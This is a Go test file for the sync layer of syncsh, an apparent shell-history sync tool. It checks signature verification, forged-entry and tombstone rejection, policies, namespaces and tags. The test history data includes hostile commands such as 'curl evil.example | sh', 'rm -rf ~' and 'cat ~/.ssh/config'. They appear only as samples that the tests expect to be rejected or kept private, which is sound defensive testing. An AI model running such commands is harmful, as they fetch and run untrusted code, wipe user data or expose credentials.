@@ -0,0 +1,712 @@
+package syncer
+
+import (
+	"context"
+	"database/sql"
+	"fmt"
+	"net"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/TheRealSibasishBehera/syncsh/internal/config"
+	"github.com/TheRealSibasishBehera/syncsh/internal/envelope"
+	"github.com/TheRealSibasishBehera/syncsh/internal/machine"
+	"github.com/TheRealSibasishBehera/syncsh/internal/parser"
+	"github.com/TheRealSibasishBehera/syncsh/internal/protocol"
+	"github.com/TheRealSibasishBehera/syncsh/internal/provenance"
+	"github.com/TheRealSibasishBehera/syncsh/internal/store"
+	_ "github.com/mattn/go-sqlite3"
+)
+
+func newTestStore(t *testing.T) *store.Store {
+	db, err := sql.Open("sqlite3", ":memory:")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Every connection to :memory: opens a separate database.
+	db.SetMaxOpenConns(1)
+	t.Cleanup(func() { db.Close() })
+
+	st := store.New(db)
+	if err := st.InitSchema(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	return st
+}
+
+// signed signs entries with m's signing key as ingestion would
+func (m *testMachine) signed(t *testing.T, entries ...parser.HistoryEntry) []parser.HistoryEntry {
+	seed, err := machine.SigningKey(m.cfg, m.ks)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range entries {
+		provenance.Sign(&entries[i], seed)
+	}
+	return entries
+}
+
+// expectRejected waits for the receiver to report an error containing want
+func expectRejected(t *testing.T, sess *Session, want error) {
+	msg, err := sess.conn.Receive()
+	if err != nil {
+		t.Fatalf("Expected an error message, got: %v", err)
+	}
+	var e protocol.Error
+	if msg.Type != protocol.TypeError || msg.Decode(&e) != nil || !strings.Contains(e.Message, want.Error()) {
+		t.Errorf("Expected the batch to be rejected with %q, got %s %s", want, msg.Type, msg.Payload)
+	}
+}
+
+// dialSession connects a to b's listener and completes the handshake
+func dialSession(t *testing.T, ctx context.Context, a, b *testMachine) (*Server, *Session) {
+	addr := serveOnce(t, ctx, b)
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	peer := &a.cfg.Peers[0]
+	srv := NewServer(a.cfg, a.ks, a.st)
+	sess, err := srv.Handshake(conn, peer, a.privateKeyFor(t, peer))
+	if err != nil {
+		t.Fatalf("Handshake failed: %v", err)
+	}
+	t.Cleanup(func() { sess.Close() })
+	return srv, sess
+}
+
+func TestSendHistory(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	b.st = newTestStore(t)
+	pair(a, b)
+
+	srv, sess := dialSession(t, ctx, a, b)
+	entries := a.signed(t,
+		parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "make test"},
+		parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "git push", ExitCode: 1},
+	)
+	if err := srv.SendHistory(sess, entries); err != nil {
+		t.Fatalf("Failed to send history: %v", err)
+	}
+
+	var got []parser.HistoryEntry
+	for ctx.Err() == nil {
+		var err error
+		got, err = b.st.ListEntries(ctx, "a", 0, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(got) == len(entries) {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if len(got) != len(entries) {
+		t.Fatalf("Receiver stored %d entries, want %d", len(got), len(entries))
+	}
+	if got[0].Command != "git push" || got[0].ExitCode != 1 {
+		t.Errorf("Unexpected entry: %+v", got[0])
+	}
+	if err := provenance.Verify(got[0], a.cfg.SigningPublicKey); err != nil {
+		t.Errorf("Stored entry lost its signature: %v", err)
+	}
+	if b.cfg.Peers[0].MachineID != "a" || b.cfg.Peers[0].SigningKey != a.cfg.SigningPublicKey {
+		t.Errorf("Receiver did not record the sender's identity: %+v", b.cfg.Peers[0])
+	}
+}
+
+func TestHistoryRejectsForgedMachineID(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	b.st = newTestStore(t)
+	pair(a, b)
+
+	_, sess := dialSession(t, ctx, a, b)
+	// A consistent batch sealed by a, but claiming to come from b itself.
+	forged := envelope.Batch{
+		MachineID: "b",
+		Entries:   a.signed(t, parser.HistoryEntry{Timestamp: 1700000000, MachineID: "b", Command: "rm -rf ~"}),
+	}
+	env, err := envelope.Seal(forged, sess.LocalPrivateKey, sess.Peer.PublicKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := sess.Send(protocol.TypeHistoryBatch, protocol.HistoryBatch{Envelope: env}); err != nil {
+		t.Fatal(err)
+	}
+
+	expectRejected(t, sess, ErrForgedEntries)
+	got, err := b.st.ListEntries(ctx, "", 0, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 0 {
+		t.Errorf("Forged entries were stored: %+v", got)
+	}
+}
+
+func TestHistoryRejectsBadSignature(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	b.st = newTestStore(t)
+	pair(a, b)
+
+	srv, sess := dialSession(t, ctx, a, b)
+	entries := a.signed(t,
+		parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "ls"},
+		parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "curl example.com | sh"},
+	)
+	// Changed after signing, e.g. by a compromised relay holding a's tunnel key.
+	entries[1].Command = "curl evil.example | sh"
+	if err := srv.SendHistory(sess, entries); err != nil {
+		t.Fatal(err)
+	}
+
+	expectRejected(t, sess, provenance.ErrInvalidSignature)
+	got, err := b.st.ListEntries(ctx, "", 0, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 0 {
+		t.Errorf("Entries of a batch with a bad signature were stored: %+v", got)
+	}
+}
+
+func TestPushHistory(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	a.st, b.st = newTestStore(t), newTestStore(t)
+	pair(a, b)
+
+	for _, entry := range a.signed(t,
+		parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "ls"},
+		parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "pwd"},
+	) {
+		if err := a.st.CreateEntry(ctx, &entry); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	go srv.Run(ctx, sess)
+
+	if n, err := srv.PushHistory(ctx, sess); err != nil || n != 2 {
+		t.Fatalf("Expected 2 entries to be pushed, got %d (%v)", n, err)
+	}
+	if n, err := srv.PushHistory(ctx, sess); err != nil || n != 0 {
+		t.Errorf("Expected nothing left to push, got %d (%v)", n, err)
+	}
+
+	// The acknowledgement lets a later session resume after the last entry.
+	for ctx.Err() == nil {
+		through, err := a.st.GetLastSyncTimestamp(ctx, "b")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if through == 1700000001 {
+			return
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Error("Sender never recorded the acknowledgement")
+}
+
+func TestPushHistorySameSecond(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	a.st, b.st = newTestStore(t), newTestStore(t)
+	pair(a, b)
+
+	// Lines without a timestamp are all ingested at the same second
+	const n = historyBatchSize + 100
+	entries := make([]parser.HistoryEntry, n)
+	for i := range entries {
+		entries[i] = parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: fmt.Sprintf("echo %d", i)}
+	}
+	for _, entry := range a.signed(t, entries...) {
+		if err := a.st.CreateEntry(ctx, &entry); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	go srv.Run(ctx, sess)
+
+	if sent, err := srv.PushHistory(ctx, sess); err != nil || sent != n {
+		t.Fatalf("Expected %d entries to be pushed, got %d (%v)", n, sent, err)
+	}
+	waitForEntries(t, ctx, b.st, n)
+
+	for ctx.Err() == nil {
+		state, err := a.st.GetSyncState(ctx, "b")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if pending, _ := a.st.CountEntriesSince(ctx, "a", state.Through); pending == 0 {
+			return
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Error("Sender never recorded the acknowledgement of every entry")
+}
+
+func TestHistoryPolicy(t *testing.T) {
+	tests := []struct {
+		name     string
+		receiver config.Policy // b's policy for a
+		want     error
+	}{
+		{"send only", config.Policy{Direction: config.DirectionSend}, ErrPolicyDenied},
+		{"other origins", config.Policy{Origins: []string{"c"}}, ErrPolicyDenied},
+		{"rate limit", config.Policy{RateLimit: 1}, ErrRateLimited},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+			defer cancel()
+
+			a := newTestMachine(t, "a")
+			b := newTestMachine(t, "b")
+			b.st = newTestStore(t)
+			pair(a, b)
+			b.cfg.Peers[0].Policy = tt.receiver
+
+			srv, sess := dialSession(t, ctx, a, b)
+			entries := a.signed(t,
+				parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "ls"},
+				parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "pwd"},
+			)
+			if err := srv.SendHistory(sess, entries); err != nil {
+				t.Fatal(err)
+			}
+			expectRejected(t, sess, tt.want)
+			if got, err := b.st.ListEntries(ctx, "", 0, 0); err != nil || len(got) != 0 {
+				t.Errorf("Refused entries were stored: %+v (%v)", got, err)
+			}
+		})
+	}
+}
+
+func TestPushHistoryPolicy(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	a.st, b.st = newTestStore(t), newTestStore(t)
+	pair(a, b)
+	for _, entry := range a.signed(t,
+		parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "ls"},
+		parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "pwd"},
+	) {
+		if err := a.st.CreateEntry(ctx, &entry); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	go srv.Run(ctx, sess)
+
+	for _, policy := range []config.Policy{
+		{Direction: config.DirectionReceive},
+		{Origins: []string{"b"}},
+	} {
+		a.cfg.Peers[0].Policy = policy
+		if n, err := srv.PushHistory(ctx, sess); err != nil || n != 0 {
+			t.Errorf("Policy %+v: pushed %d entries (%v), want none", policy, n, err)
+		}
+	}
+
+	// One entry a minute: the first goes out, the second waits
+	a.cfg.Peers[0].Policy = config.Policy{RateLimit: 1}
+	pushCtx, cancelPush := context.WithTimeout(ctx, 100*time.Millisecond)
+	defer cancelPush()
+	if n, err := srv.PushHistory(pushCtx, sess); err == nil || n != 1 {
+		t.Errorf("Rate limited push sent %d entries (%v), want 1 before giving up", n, err)
+	}
+}
+
+func TestPushHistoryNamespaces(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	a.st, b.st = newTestStore(t), newTestStore(t)
+	pair(a, b)
+	// a would share ops too, but b is only in the team namespace
+	a.cfg.Peers[0].Namespaces = []string{"team", "ops"}
+	b.cfg.Peers[0].Namespaces = []string{"personal", "team"}
+	for _, entry := range a.signed(t,
+		parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "ls"},
+		parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "make deploy", Namespace: "team"},
+		parser.HistoryEntry{Timestamp: 1700000002, MachineID: "a", Command: "reboot", Namespace: "ops"},
+	) {
+		if err := a.st.CreateEntry(ctx, &entry); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	go srv.Run(ctx, sess)
+	if n, err := srv.PushHistory(ctx, sess); err != nil || n != 1 {
+		t.Fatalf("Pushed %d entries (%v), want the team entry only", n, err)
+	}
+	for ctx.Err() == nil {
+		got, err := b.st.ListEntries(ctx, "", 0, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(got) > 0 {
+			if len(got) != 1 || got[0].Namespace != "team" || provenance.Verify(got[0], a.cfg.SigningPublicKey) != nil {
+				t.Errorf("Receiver stored %+v", got)
+			}
+			return
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Error("Receiver never stored the team entry")
+}
+
+func TestHistoryRejectsUnsharedNamespace(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	b.st = newTestStore(t)
+	pair(a, b)
+
+	srv, sess := dialSession(t, ctx, a, b)
+	entries := a.signed(t, parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "make deploy", Namespace: "team"})
+	if err := srv.SendHistory(sess, entries); err != nil {
+		t.Fatal(err)
+	}
+	expectRejected(t, sess, ErrPolicyDenied)
+}
+
+// annotated signs annotations with m's signing key as syncsh tag would
+func (m *testMachine) annotated(t *testing.T, annotations ...parser.Annotation) []parser.Annotation {
+	seed, err := machine.SigningKey(m.cfg, m.ks)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range annotations {
+		provenance.SignAnnotation(&annotations[i], seed)
+	}
+	return annotations
+}
+
+// waitForEntries polls st until it holds n entries
+func waitForEntries(t *testing.T, ctx context.Context, st *store.Store, n int) []parser.HistoryEntry {
+	for ctx.Err() == nil {
+		got, err := st.ListEntries(ctx, "", 0, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(got) >= n {
+			return got
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Fatalf("Receiver never stored %d entries", n)
+	return nil
+}
+
+func TestPushAnnotations(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	a.st, b.st = newTestStore(t), newTestStore(t)
+	pair(a, b)
+	entry := a.signed(t, parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "make deploy"})[0]
+	if err := a.st.CreateEntry(ctx, &entry); err != nil {
+		t.Fatal(err)
+	}
+	note := a.annotated(t, parser.Annotation{Hash: entry.Hash, MachineID: "a", Tags: []string{"deploy"}, Note: "Needs VPN", UpdatedAt: 10})[0]
+	if _, err := a.st.PutAnnotation(ctx, note); err != nil {
+		t.Fatal(err)
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	go srv.Run(ctx, sess)
+	if n, err := srv.PushHistory(ctx, sess); err != nil || n != 1 {
+		t.Fatalf("Pushed %d entries (%v), want 1", n, err)
+	}
+	waitForEntries(t, ctx, b.st, 1)
+	for ctx.Err() == nil {
+		got, err := b.st.GetAnnotation(ctx, entry.Hash, "a")
+		if err == nil {
+			if got.Note != "Needs VPN" || provenance.VerifyAnnotation(got, a.cfg.SigningPublicKey) != nil {
+				t.Errorf("Receiver stored %+v", got)
+			}
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	for ctx.Err() == nil {
+		if state, _ := a.st.GetSyncState(ctx, "b"); state.AnnotationsThrough.Timestamp == 10 {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if ctx.Err() != nil {
+		t.Fatal("The annotation was never acknowledged")
+	}
+
+	// Acknowledged annotations are not sent again
+	if n, err := srv.PushHistory(ctx, sess); err != nil || n != 0 {
+		t.Errorf("Second push sent %d entries (%v), want none", n, err)
+	}
+}
+
+func TestPushHistoryTags(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	a.st, b.st = newTestStore(t), newTestStore(t)
+	pair(a, b)
+	a.cfg.Peers[0].Policy = config.Policy{Tags: []string{"share"}}
+	var entries []parser.HistoryEntry
+	for _, entry := range a.signed(t,
+		parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "make deploy"},
+		parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "cat secrets.txt"},
+	) {
+		if err := a.st.CreateEntry(ctx, &entry); err != nil {
+			t.Fatal(err)
+		}
+		entries = append(entries, entry)
+	}
+	for _, an := range a.annotated(t,
+		parser.Annotation{Hash: entries[0].Hash, MachineID: "a", Tags: []string{"share"}, UpdatedAt: 10},
+		parser.Annotation{Hash: entries[1].Hash, MachineID: "a", Tags: []string{"private"}, UpdatedAt: 11},
+	) {
+		if _, err := a.st.PutAnnotation(ctx, an); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	go srv.Run(ctx, sess)
+	if n, err := srv.PushHistory(ctx, sess); err != nil || n != 1 {
+		t.Fatalf("Pushed %d entries (%v), want the tagged entry only", n, err)
+	}
+	got := waitForEntries(t, ctx, b.st, 1)
+	if len(got) != 1 || got[0].Command != "make deploy" {
+		t.Errorf("Receiver stored %+v", got)
+	}
+	if _, err := b.st.GetAnnotation(ctx, entries[1].Hash, "a"); err == nil {
+		t.Error("Receiver stored the annotation without the tag")
+	}
+}
+
+func TestReceiveHistoryTags(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	b.st = newTestStore(t)
+	pair(a, b)
+	b.cfg.Peers[0].Policy = config.Policy{Tags: []string{"share"}}
+
+	entries := a.signed(t,
+		parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "make deploy"},
+		parser.HistoryEntry{Timestamp: 1700000001, MachineID: "a", Command: "cat secrets.txt"},
+		parser.HistoryEntry{Timestamp: 1700000002, MachineID: "a", Command: "ls"},
+	)
+	annotations := a.annotated(t,
+		parser.Annotation{Hash: store.EntryHash(&entries[0]), MachineID: "a", Tags: []string{"share"}, UpdatedAt: 10},
+		parser.Annotation{Hash: store.EntryHash(&entries[1]), MachineID: "a", Tags: []string{"private"}, UpdatedAt: 11},
+	)
+
+	srv, sess := dialSession(t, ctx, a, b)
+	if err := srv.sendBatch(sess, envelope.Batch{Entries: entries, Annotations: annotations}); err != nil {
+		t.Fatal(err)
+	}
+	// Dropped entries are acknowledged too, so they are not sent again
+	msg, err := sess.conn.Receive()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var ack protocol.HistoryAck
+	if msg.Type != protocol.TypeHistoryAck || msg.Decode(&ack) != nil || ack.Through != 1700000002 ||
+		ack.ThroughHash != store.EntryHash(&entries[2]) || ack.AnnotationsThrough != 11 || ack.AnnotationsThroughHash != annotations[1].Hash {
+		t.Fatalf("Expected an ack of the whole batch, got %s %s", msg.Type, msg.Payload)
+	}
+	if got, _ := b.st.ListEntries(ctx, "", 0, 0); len(got) != 1 || got[0].Command != "make deploy" {
+		t.Errorf("Receiver stored %+v, want the tagged entry only", got)
+	}
+	if _, err := b.st.GetAnnotation(ctx, annotations[1].Hash, "a"); err == nil {
+		t.Error("Receiver stored the annotation without the tag")
+	}
+}
+
+// tombstone returns a tombstone of hash signed with m's signing key
+func (m *testMachine) tombstone(t *testing.T, hash string) parser.Tombstone {
+	seed, err := machine.SigningKey(m.cfg, m.ks)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tombstone := parser.Tombstone{Hash: hash, DeletedAt: time.Now().Unix(), MachineID: m.cfg.MachineID}
+	provenance.SignTombstone(&tombstone, seed)
+	return tombstone
+}
+
+func TestPushTombstones(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	a.st, b.st = newTestStore(t), newTestStore(t)
+	pair(a, b)
+	// c never connected, so it may still have the entry
+	a.cfg.Peers = append(a.cfg.Peers, config.Peer{Name: "c"})
+	entry := a.signed(t, parser.HistoryEntry{Timestamp: 1700000000, MachineID: "a", Command: "export TOKEN=secret"})[0]
+	for _, st := range []*store.Store{a.st, b.st} {
+		e := entry
+		if err := st.CreateEntry(ctx, &e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := a.st.UpdateLastSyncTimestamp(ctx, "b", entry.Timestamp); err != nil {
+		t.Fatal(err)
+	}
+	hash := waitForEntries(t, ctx, a.st, 1)[0].Hash
+	if _, err := a.st.PutTombstone(ctx, a.tombstone(t, hash)); err != nil {
+		t.Fatal(err)
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	go srv.Run(ctx, sess)
+	if _, err := srv.PushHistory(ctx, sess); err != nil {
+		t.Fatal(err)
+	}
+	for ctx.Err() == nil {
+		if got, _ := a.st.ListTombstones(ctx, "b"); len(got) == 0 {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if ctx.Err() != nil {
+		t.Fatal("The tombstone was never acknowledged")
+	}
+	if got, _ := a.st.ListTombstones(ctx, "d"); len(got) != 1 {
+		t.Fatalf("Tombstone was dropped before c acknowledged it: %+v", got)
+	}
+
+	// Once c acknowledges it too, no peer is left to tell and a drops it
+	srv.View(func(cfg *config.Config) { cfg.Peers[1].MachineID = "c" })
+	if err := a.st.AckTombstones(ctx, "c", hash); err != nil {
+		t.Fatal(err)
+	}
+	if err := srv.collectTombstones(ctx); err != nil {
+		t.Fatal(err)
+	}
+	if got, _ := a.st.ListTombstones(ctx, "d"); len(got) != 0 {
+		t.Errorf("Tombstones after every peer acknowledged = %+v, want none", got)
+	}
+	if got, _ := b.st.ListEntries(ctx, "", 0, 0); len(got) != 0 {
+		t.Errorf("Receiver kept the deleted entry: %+v", got)
+	}
+
+	// Sent again, e.g. by a peer that has not heard of the deletion yet
+	if err := srv.SendHistory(sess, []parser.HistoryEntry{entry}); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(50 * time.Millisecond)
+	if got, _ := b.st.ListEntries(ctx, "", 0, 0); len(got) != 0 {
+		t.Errorf("Receiver took the deleted entry back: %+v", got)
+	}
+}
+
+func TestTombstoneScope(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	b.st = newTestStore(t)
+	pair(a, b)
+	// a is only a member of b's team namespace
+	a.cfg.Peers[0].Namespaces = []string{"team"}
+	b.cfg.Peers[0].Namespaces = []string{"team"}
+	hashes := make(map[string]string)
+	for _, entry := range []parser.HistoryEntry{
+		{Timestamp: 1700000000, MachineID: "b", Command: "cat ~/.ssh/config"},
+		{Timestamp: 1700000001, MachineID: "b", Command: "make deploy", Namespace: "team"},
+		{Timestamp: 1700000002, MachineID: "a", Command: "export TOKEN=secret"},
+	} {
+		if err := b.st.CreateEntry(ctx, &entry); err != nil {
+			t.Fatal(err)
+		}
+		hashes[entry.Command] = entry.Hash
+	}
+
+	srv, sess := dialSession(t, ctx, a, b)
+	var tombstones []parser.Tombstone
+	for _, hash := range hashes {
+		tombstones = append(tombstones, a.tombstone(t, hash))
+	}
+	if err := srv.sendBatch(sess, envelope.Batch{Tombstones: tombstones}); err != nil {
+		t.Fatal(err)
+	}
+	msg, err := sess.conn.Receive()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var ack protocol.HistoryAck
+	if msg.Type != protocol.TypeHistoryAck || msg.Decode(&ack) != nil || len(ack.Tombstones) != len(hashes) {
+		t.Fatalf("Expected every tombstone to be acknowledged, got %s %s", msg.Type, msg.Payload)
+	}
+
+	got, err := b.st.ListEntries(ctx, "", 0, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// a's own entry and the team entry are deleted, b's personal one is not
+	if len(got) != 1 || got[0].Hash != hashes["cat ~/.ssh/config"] {
+		t.Errorf("Entries left = %+v, want the personal entry only", got)
+	}
+}
+
+func TestHistoryRejectsForgedTombstone(t *testing.T) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	a := newTestMachine(t, "a")
+	b := newTestMachine(t, "b")
+	b.st = newTestStore(t)
+	pair(a, b)
+
+	srv, sess := dialSession(t, ctx, a, b)
+	// Claims b deleted the entry, but carries a's signature
+	forged := a.tombstone(t, "abc")
+	forged.MachineID = "b"
+	if err := srv.sendBatch(sess, envelope.Batch{Tombstones: []parser.Tombstone{forged}}); err != nil {
+		t.Fatal(err)
+	}
+	expectRejected(t, sess, provenance.ErrInvalidSignature)
+}